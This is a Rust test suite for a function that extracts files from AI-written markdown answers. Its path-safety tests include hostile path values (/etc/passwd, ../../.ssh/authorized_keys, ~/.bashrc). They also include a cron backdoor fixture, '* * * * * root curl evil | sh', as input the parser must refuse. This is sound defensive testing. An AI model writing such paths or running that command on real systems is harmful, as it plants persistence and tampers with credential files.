//! Extraction from answers written the way models write them.

use super::*;

/// The default the infrastructure agent would use: a Dockerfile block is the Dockerfile.
fn dockerfile_default(language: Option<&str>) -> Option<String> {
    match language {
        Some("dockerfile") => Some("Dockerfile".to_string()),
        _ => None,
    }
}

fn no_default(_: Option<&str>) -> Option<String> {
    None
}

fn paths(extraction: &Extraction) -> Vec<&str> {
    extraction
        .artifacts
        .iter()
        .map(|a| a.path.as_str())
        .collect()
}

fn file<'a>(extraction: &'a Extraction, path: &str) -> &'a Artifact {
    extraction
        .artifacts
        .iter()
        .find(|a| a.path == path)
        .unwrap_or_else(|| panic!("no {path} in {:?}", paths(extraction)))
}

#[test]
fn several_files_with_prose_between() {
    let answer = r#"Here's a production-ready setup for your Node.js API.

### Dockerfile

```dockerfile
# syntax=docker/dockerfile:1
FROM node:20-alpine AS build
WORKDIR /app
COPY package*.json ./
RUN npm ci
```

The multi-stage build keeps the image small.

**docker-compose.yml**
```yaml
services:
  api:
    build: .
    ports:
      - "3000:3000"
```

And a CI pipeline:

```yaml title=".github/workflows/ci.yml"
name: CI
on: [push]
```

Run it with:

```bash
docker compose up -d
```

Let me know if you need Kubernetes manifests too!
"#;
    let found = extract_files(answer, &dockerfile_default);
    assert_eq!(
        paths(&found),
        vec![
            "Dockerfile",
            "docker-compose.yml",
            ".github/workflows/ci.yml"
        ]
    );
    assert!(found.rejected.is_empty());
    let dockerfile = file(&found, "Dockerfile");
    assert_eq!(dockerfile.language.as_deref(), Some("dockerfile"));
    assert_eq!(dockerfile.kind, None);
    assert_eq!(
        dockerfile.content,
        "# syntax=docker/dockerfile:1\nFROM node:20-alpine AS build\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci\n"
    );
    assert_eq!(
        file(&found, "docker-compose.yml").content,
        "services:\n  api:\n    build: .\n    ports:\n      - \"3000:3000\"\n"
    );
    assert_eq!(
        file(&found, ".github/workflows/ci.yml").content,
        "name: CI\non: [push]\n"
    );
}

#[test]
fn a_four_backtick_fence_holds_a_three_backtick_block() {
    let answer = "File: docs/RUNBOOK.md\n\n````markdown\n# Runbook\n\nRestart with:\n\n```bash\nsystemctl restart api\n```\n````\n\nDone.\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(paths(&found), vec!["docs/RUNBOOK.md"]);
    assert_eq!(
        found.artifacts[0].content,
        "# Runbook\n\nRestart with:\n\n```bash\nsystemctl restart api\n```\n"
    );
}

#[test]
fn tilde_fences() {
    let answer = "`nginx/nginx.conf`\n~~~nginx\nserver {\n    listen 80;\n}\n~~~\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(paths(&found), vec!["nginx/nginx.conf"]);
    assert_eq!(found.artifacts[0].language.as_deref(), Some("nginx"));
    assert_eq!(found.artifacts[0].content, "server {\n    listen 80;\n}\n");
}

#[test]
fn crlf_line_endings() {
    let answer = "### Dockerfile\r\n\r\n```dockerfile\r\nFROM alpine:3.20\r\nRUN apk add --no-cache curl\r\n```\r\n\r\n```yaml:docker-compose.yml\r\nservices: {}\r\n```\r\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(paths(&found), vec!["Dockerfile", "docker-compose.yml"]);
    assert_eq!(
        found.artifacts[0].content,
        "FROM alpine:3.20\nRUN apk add --no-cache curl\n"
    );
    assert_eq!(found.artifacts[1].content, "services: {}\n");
}

#[test]
fn heading_and_list_named_files() {
    let answer = r#"## Files

1. **`prometheus/alerts.yml`**
   ```yaml
   groups:
     - name: api
   ```

2. **Caddyfile**:
   ```
   example.com {
       reverse_proxy api:3000
   }
   ```

#### Step 3: k8s/deployment.yaml

```yaml
apiVersion: apps/v1
```
"#;
    let found = extract_files(answer, &no_default);
    assert_eq!(
        paths(&found),
        vec!["prometheus/alerts.yml", "Caddyfile", "k8s/deployment.yaml"]
    );
    // The list item's indentation is not part of the file.
    assert_eq!(found.artifacts[0].content, "groups:\n  - name: api\n");
    assert_eq!(found.artifacts[1].language, None);
    assert_eq!(
        found.artifacts[1].content,
        "example.com {\n    reverse_proxy api:3000\n}\n"
    );
}

#[test]
fn comment_named_files_lose_the_naming_line() {
    let answer = "```yaml\n# file: monitoring/slo.yaml\nslos:\n  - name: availability\n```\n\n```hcl\n# infra/main.tf\nterraform {}\n```\n\n```js\n// file: src/sentry.js\nSentry.init({});\n```\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(
        paths(&found),
        vec!["monitoring/slo.yaml", "infra/main.tf", "src/sentry.js"]
    );
    assert_eq!(
        found.artifacts[0].content,
        "slos:\n  - name: availability\n"
    );
    assert_eq!(found.artifacts[1].content, "terraform {}\n");
    assert_eq!(found.artifacts[2].content, "Sentry.init({});\n");
}

#[test]
fn a_label_wins_over_a_first_line_comment_which_then_stays() {
    let answer = "**compose.yml**\n```yaml\n# compose.override.yml\nservices: {}\n```\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(paths(&found), vec!["compose.yml"]);
    assert_eq!(
        found.artifacts[0].content,
        "# compose.override.yml\nservices: {}\n"
    );
}

#[test]
fn info_string_wins_over_a_label() {
    let answer = "### Dockerfile\n```dockerfile path=docker/api.Dockerfile\nFROM x\n```\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(paths(&found), vec!["docker/api.Dockerfile"]);
}

#[test]
fn unnamed_blocks_take_the_default_or_are_skipped() {
    let answer = "Use this:\n\n```dockerfile\nFROM python:3.12-slim\n```\n\nThen run:\n\n```sh\ndocker build -t app .\n```\n\nOutput:\n\n```\nSuccessfully built 1234\n```\n";
    let found = extract_files(answer, &dockerfile_default);
    assert_eq!(paths(&found), vec!["Dockerfile"]);
    assert_eq!(found.artifacts[0].content, "FROM python:3.12-slim\n");
    assert!(found.rejected.is_empty());

    let found = extract_files(answer, &no_default);
    assert!(found.artifacts.is_empty());
    assert!(found.rejected.is_empty());
}

#[test]
fn the_default_sees_the_lowercased_language() {
    let seen = std::cell::RefCell::new(Vec::new());
    let default = |language: Option<&str>| {
        seen.borrow_mut().push(language.map(str::to_string));
        None
    };
    extract_files("```Dockerfile\nFROM x\n```\n```\nplain\n```\n", &default);
    assert_eq!(*seen.borrow(), vec![Some("dockerfile".to_string()), None]);
}

#[test]
fn commands_mentioning_a_file_do_not_replace_it() {
    let answer = "**docker-compose.yml**\n```yaml\nservices: {}\n```\n\nValidate `docker-compose.yml` with:\n\n```bash\ndocker compose config\n```\n\nAnd save this as `scripts/up.sh`:\n\n```bash\n#!/bin/sh\ndocker compose up -d\n```\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(paths(&found), vec!["docker-compose.yml", "scripts/up.sh"]);
    assert_eq!(found.artifacts[0].content, "services: {}\n");
    assert_eq!(
        found.artifacts[1].content,
        "#!/bin/sh\ndocker compose up -d\n"
    );
}

#[test]
fn a_restated_file_replaces_the_earlier_one_in_place() {
    let answer = "### Dockerfile\n```dockerfile\nFROM node:latest\n```\n\n`.env.example`\n```\nPORT=3000\n```\n\nOops, pin the tag:\n\n### ./Dockerfile\n```dockerfile\nFROM node:20.11-alpine\n```\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(paths(&found), vec!["Dockerfile", ".env.example"]);
    assert_eq!(found.artifacts[0].content, "FROM node:20.11-alpine\n");
    assert!(found.rejected.is_empty());
}

#[test]
fn an_unterminated_block_runs_to_the_end() {
    let answer = "**docker-compose.yml**\n```yaml\nservices:\n  db:\n    image: postgres:16\n\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(
        found.artifacts[0].content,
        "services:\n  db:\n    image: postgres:16\n"
    );
}

#[test]
fn content_is_kept_exactly_but_ends_with_one_newline() {
    let answer =
        "```text path=notes.txt\n\n  indented\ttab  \n\n\n\n```\n```text path=empty.txt\n```\n";
    let found = extract_files(answer, &no_default);
    assert_eq!(found.artifacts[0].content, "\n  indented\ttab  \n");
    assert_eq!(found.artifacts[1].content, "");
}

#[test]
fn hostile_paths_are_rejected_with_the_reason_and_never_extracted() {
    let cases: Vec<(String, RejectReason)> = vec![
        ("/etc/passwd".into(), PathError::Absolute.into()),
        (
            "../../.ssh/authorized_keys".into(),
            PathError::ParentComponent.into(),
        ),
        ("a/../../b".into(), PathError::ParentComponent.into()),
        (
            r"C:\Windows\x".into(),
            PathError::DriveLetter { letter: 'C' }.into(),
        ),
        ("c:/x".into(), PathError::DriveLetter { letter: 'c' }.into()),
        (r"\\server\share".into(), PathError::Unc.into()),
        (
            "foo\0bar".into(),
            PathError::ControlCharacter { ch: '\0' }.into(),
        ),
        ("~/.bashrc".into(), PathError::HomePrefix.into()),
        (
            "CON".into(),
            PathError::ReservedName { name: "CON".into() }.into(),
        ),
        (
            "nul.txt".into(),
            PathError::ReservedName {
                name: "nul.txt".into(),
            }
            .into(),
        ),
        (
            "x".repeat(300),
            PathError::ComponentTooLong { bytes: 300 }.into(),
        ),
    ];
    let mut answer = String::from("Sure, here are the files.\n\n");
    for (raw, _) in &cases {
        answer.push_str(&format!(
            "```text path=\"{raw}\"\nowned\n```\n\nmore prose\n\n"
        ));
    }
    answer.push_str("```text path=ok.txt\nfine\n```\n");

    let found = extract_files(&answer, &no_default);
    assert_eq!(paths(&found), vec!["ok.txt"]);
    assert_eq!(found.rejected.len(), cases.len());
    for (i, ((raw, reason), rejected)) in cases.iter().zip(&found.rejected).enumerate() {
        assert_eq!(&rejected.raw_path, raw);
        assert_eq!(&rejected.reason, reason, "{raw:?}");
        // Each case takes 6 lines after the 2-line preamble.
        assert_eq!(rejected.line, 3 + 6 * i as u32, "{raw:?}");
    }
}

#[test]
fn hostile_names_from_labels_and_comments_are_rejected_too() {
    let answer = "File: ../../etc/cron.d/backdoor\n```\n* * * * * root curl evil | sh\n```\n\n```yaml\n# file: /etc/systemd/system/x.service\n[Service]\n```\n";
    let found = extract_files(answer, &dockerfile_default);
    assert!(found.artifacts.is_empty());
    assert_eq!(
        found.rejected,
        vec![
            Rejected {
                raw_path: "../../etc/cron.d/backdoor".into(),
                reason: PathError::ParentComponent.into(),
                line: 2,
            },
            Rejected {
                raw_path: "/etc/systemd/system/x.service".into(),
                reason: PathError::Absolute.into(),
                line: 6,
            },
        ]
    );
    assert_eq!(
        found.rejected[0].to_string(),
        "line 2: file \"../../etc/cron.d/backdoor\" refused: `..` component: a generated file must stay inside the output folder"
    );
}

#[test]
fn oversize_content_is_rejected() {
    let big = "a".repeat(600 * 1024);
    let answer = format!("### big.txt\n```\n{big}\n```\n### small.txt\n```\nok\n```\n");
    let found = extract_files(&answer, &no_default);
    assert_eq!(paths(&found), vec!["small.txt"]);
    assert_eq!(
        found.rejected,
        vec![Rejected {
            raw_path: "big.txt".into(),
            reason: RejectReason::Oversize {
                bytes: 600 * 1024 + 1
            },
            line: 2,
        }]
    );
    // Exactly the limit is accepted.
    let limit = format!(
        "```text path=limit.txt\n{}\n```\n",
        "b".repeat(MAX_ARTIFACT_BYTES - 1)
    );
    let found = extract_files(&limit, &no_default);
    assert_eq!(found.artifacts[0].content.len(), MAX_ARTIFACT_BYTES);
}

#[test]
fn never_panics_on_odd_input() {
    let odd = [
        "",
        "```",
        "~~~",
        "``",
        "```é",
        "é```\n```é:é\né\n",
        "### é\n```\n",
        "```\r",
        "\r\n```\r\n\r",
        "   ```yaml title=\"\n",
        "```yaml title=\"unterminated\nx\n```",
        "**\n```\n",
        "# file:\n```\nx\n```",
        "```\n# file: \n```",
        "```\n# \n```",
        "1.\n```\nx\n```",
        "<!--\n```\nx\n```",
        "```yaml:\nx\n```",
        "```:x.yml\nx\n```",
    ];
    for text in odd {
        let _ = extract_files(text, &|_| Some("fallback.txt".to_string()));
        let _ = extract_files(text, &no_default);
        let _ = extract_json(text);
    }
}

mod never_panics {
    use proptest::prelude::*;

    use super::super::*;

    /// Text made of the pieces that steer the parser: fences, separators, comment and list
    /// markers, CRLF, multi-byte characters.
    fn model_text() -> impl Strategy<Value = String> {
        prop::collection::vec(
            prop_oneof![
                Just("```".to_string()),
                Just("~~~".to_string()),
                Just("````".to_string()),
                Just("\n".to_string()),
                Just("\r\n".to_string()),
                Just("\r".to_string()),
                Just("   ".to_string()),
                Just("# ".to_string()),
                Just("**".to_string()),
                Just("`".to_string()),
                Just("1. ".to_string()),
                Just("file: ".to_string()),
                Just("path=".to_string()),
                Just("\"".to_string()),
                Just(":".to_string()),
                Just("/".to_string()),
                Just("\\".to_string()),
                Just("..".to_string()),
                Just(".".to_string()),
                Just("yml".to_string()),
                Just("Dockerfile".to_string()),
                Just("{".to_string()),
                Just("}".to_string()),
                Just("[".to_string()),
                Just("]".to_string()),
                Just("é".to_string()),
                Just("😀".to_string()),
                Just("\0".to_string()),
                Just("\t".to_string()),
                "[a-z]{1,3}".prop_map(String::from),
            ],
            0..80,
        )
        .prop_map(|parts: Vec<String>| parts.concat())
    }

    proptest! {
        #[test]
        fn extraction_and_json(text in model_text()) {
            let found = extract_files(&text, &|_| Some("fallback.txt".to_string()));
            for artifact in &found.artifacts {
                let again = safe_relative_path(&artifact.path);
                prop_assert_eq!(again.as_deref(), Ok(artifact.path.as_str()));
                prop_assert!(artifact.content.is_empty() || artifact.content.ends_with('\n'));
                prop_assert!(!artifact.content.ends_with("\n\n"));
            }
            let _ = extract_json(&text);
        }

        #[test]
        fn paths(raw in "\\PC{0,40}|[./\\\\a-zA-Z: ~]{0,20}") {
            if let Ok(path) = safe_relative_path(&raw) {
                prop_assert!(!path.starts_with('/'));
                prop_assert!(!path.contains('\\'));
                prop_assert!(!path.split('/').any(|c| c == ".." || c == "." || c.is_empty()));
                // Normalising is idempotent.
                prop_assert_eq!(safe_relative_path(&path), Ok(path.clone()));
            }
        }
    }
}

#[test]
fn trim_ascii_byte_is_trim_matches() {
    // Every byte value, as the trimmed byte and as the bytes around it, at every position of
    // short texts (non-ASCII characters included, so trimming must stop at them).
    let pieces: Vec<String> = (0u8..=0x7f)
        .map(|b| char::from(b).to_string())
        .chain(["é".to_string(), "€".to_string(), "𝄞".to_string()])
        .collect();
    for byte in 0u8..=0x7f {
        let ch = char::from(byte).to_string();
        for a in &pieces {
            for b in [&ch, a] {
                for text in [
                    format!("{ch}{a}{b}"),
                    format!("{a}{ch}{b}{ch}"),
                    format!("{ch}{ch}{a}{b}{ch}"),
                    format!("{b}{a}"),
                    ch.repeat(3),
                    String::new(),
                ] {
                    assert_eq!(
                        trim_ascii_byte(&text, byte),
                        text.trim_matches(char::from(byte)),
                        "{byte} {text:?}"
                    );
                }
            }
        }
    }
}

#[test]
fn ascii_whitespace_helpers_match_char_methods() {
    for b in 0u8..=0x7f {
        assert_eq!(is_ascii_white(b), char::from(b).is_whitespace(), "{b}");
    }
    // Every byte value at every position of a short word, with non-ASCII and Unicode
    // whitespace around it.
    let pieces: Vec<String> = (0u8..=0x7f)
        .map(|b| char::from(b).to_string())
        .chain(["é", "\u{a0}", "\u{2003}", "\u{85}", "x"].map(String::from))
        .collect();
    for a in &pieces {
        for b in &pieces {
            for text in [
                format!("{a}{b}"),
                format!("ab{a}cd{b}"),
                format!("{a}x{b}y"),
                format!("x{a}{b}"),
                a.clone(),
                String::new(),
            ] {
                assert_eq!(
                    first_word(&text),
                    text.split_whitespace().next(),
                    "{text:?}"
                );
            }
        }
    }
}
